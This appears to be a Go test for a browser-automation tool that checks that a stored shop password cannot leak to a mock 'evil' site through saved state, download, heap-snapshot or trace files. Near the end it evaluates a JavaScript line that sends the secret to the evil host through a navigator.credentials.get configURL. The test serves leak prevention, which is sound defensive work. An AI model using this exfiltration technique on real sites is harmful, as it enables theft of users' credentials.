package login_test

import (
	"fmt"
	"net/http"
	"path/filepath"
	"testing"

	"pwpipe/internal/pipetest"
)

// TestNoFileOfLogins: what a log-in typed gets into no page by a file that a tool wrote, since the
// browser does not say what is in it when the page sends it. Nor does the browser itself send it for
// a page without asking.
func TestNoFileOfLogins(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestPinnedSecrets is quick")
	t.Parallel()
	h := serve(t, map[string]any{
		"shop/login": field + `<button>Log in</button></form><p id=in hidden>in</p><a id=export href=/export download>export</a>
			<script>f.onsubmit = (e) => { e.preventDefault(); document.querySelector('#in').hidden = false; self.v = localStorage.v = pw.value }</script>`,
		"shop/export": func(w http.ResponseWriter, r *http.Request) { _, _ = fmt.Fprintf(w, "pw=%s\n", password) },
		"evil/": `<form method=post enctype=multipart/form-data action=/got><input type=file id=file name=file><button>Send</button></form>
			<p id=drop ondragover="event.preventDefault()" ondrop="event.preventDefault(); this.textContent = event.dataTransfer.files.length">drop</p>`,
		"evil/got": "<p>got</p>", "evil/config.json": "{}",
	})
	dir := t.TempDir()
	p := h.start(shop+"done = \"#in\"\n", "--allow-dir", dir)
	at := func(name string) string { return filepath.Join(dir, name) }
	login := func() {
		p.Call("nav", []any{h.at("shop") + "/login"})
		p.Call("login", []any{"shop"})
	}
	login()
	p.Call("save-state", []any{at("state.json")})
	p.Call("download", []any{"#export", at("export.txt")})
	p.Call("heap", []any{at("page.heapsnapshot")})
	p.Call("trace-start", nil)
	p.Call("reload", nil)
	p.Call("storage", []any{"v"})
	p.Call("trace-stop", []any{at("trace.zip")})
	p.Call("nav", []any{h.at("evil") + "/"})
	for _, name := range []string{"state.json", "export.txt", "page.heapsnapshot", "trace.zip"} {
		pipetest.Has(t, p.Fail("upload", []any{"#file", at(name)}), name, "holds SHOP_PASSWORD")
	}
	pipetest.Has(t, p.Fail("drop", []any{"#drop", at("export.txt")}), "holds SHOP_PASSWORD")
	pipetest.Has(t, p.Fail("upload", []any{"#file", dir}), "holds SHOP_PASSWORD")
	p.Call("pdf", []any{at("page.pdf")})
	p.Call("upload", []any{"#file", at("page.pdf")})
	p.Call("click", []any{"button"})
	pipetest.Eventually(t, "the form is sent", func() bool { return len(h.sent("evil", "/got")) > 0 })

	login()
	p.Call("eval", []any{`new Promise((r) => { setTimeout(r, 500); navigator.credentials.get({identity: {providers:
		[{configURL: '` + h.at("evil") + `/config.json?' + v, clientId: v, nonce: v}]}}).catch(() => 0) })`})
	h.quiet()
}
